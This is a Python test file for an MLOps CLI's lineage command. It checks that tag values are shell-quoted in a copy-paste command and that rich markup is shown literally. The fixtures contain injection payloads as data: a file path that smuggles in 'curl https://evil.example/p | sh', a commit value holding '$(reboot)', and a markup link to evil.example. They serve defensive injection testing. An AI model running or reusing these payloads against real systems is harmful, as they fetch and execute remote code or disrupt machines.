"""``mlops lineage``'s rows and table from a version's tags (security review #18): the
copy-paste command quotes every value, and rich markup in a tag is printed as written."""

from __future__ import annotations

import io
import shlex
from datetime import UTC, datetime

from rich.console import Console

from cli.registry import lineage_rows, lineage_table
from tasks.adapters.registry import VersionInfo

EVIL_PATH = "data/raw/x.csv; curl https://evil.example/p | sh; #"
EVIL_COMMIT = "$(reboot)abcdef0123456789"


def _info(**run_tags: str) -> VersionInfo:
    return VersionInfo(
        model_name="customer-purchase",
        version="7",
        run_id="run-7",
        aliases=("challenger",),
        created=datetime(2026, 1, 1, tzinfo=UTC),
        tags={"gate.reason": "[bold red]approved[/] [link=https://evil.example]details[/link]"},
        run_tags=run_tags,
        metrics={},
        params={},
        experiment_id="1",
    )


def test_the_fetch_command_quotes_every_tag_value() -> None:
    info = _info(**{"data.path": EVIL_PATH, "git.commit": EVIL_COMMIT})

    fetch = dict(lineage_rows("customer-purchase", info))["fetch the data"]

    assert fetch == (
        "git checkout '$(reboot)abc' -- "
        "'data/raw/x.csv; curl https://evil.example/p | sh; #.dvc' "
        "&& dvc pull 'data/raw/x.csv; curl https://evil.example/p | sh; #'"
    )
    first, second = fetch.split(" && ")
    assert shlex.split(first) == ["git", "checkout", "$(reboot)abc", "--", f"{EVIL_PATH}.dvc"]
    assert shlex.split(second) == ["dvc", "pull", EVIL_PATH]


def test_a_plain_data_path_stays_readable() -> None:
    commit = "5f93342" + "0" * 33
    info = _info(**{"data.path": "data/raw/cp/cp.csv", "git.commit": commit})

    assert dict(lineage_rows("customer-purchase", info))["fetch the data"] == (
        "git checkout 5f9334200000 -- data/raw/cp/cp.csv.dvc && dvc pull data/raw/cp/cp.csv"
    )


def test_markup_in_a_tag_is_printed_as_written() -> None:
    out = io.StringIO()
    console = Console(file=out, width=400, color_system=None)

    console.print(lineage_table("customer-purchase", _info(trigger="[blink]manual[/blink]")))

    text = out.getvalue()
    assert "[bold red]approved[/] [link=https://evil.example]details[/link]" in text
    assert "trigger          │ [blink]manual[/blink]" in text
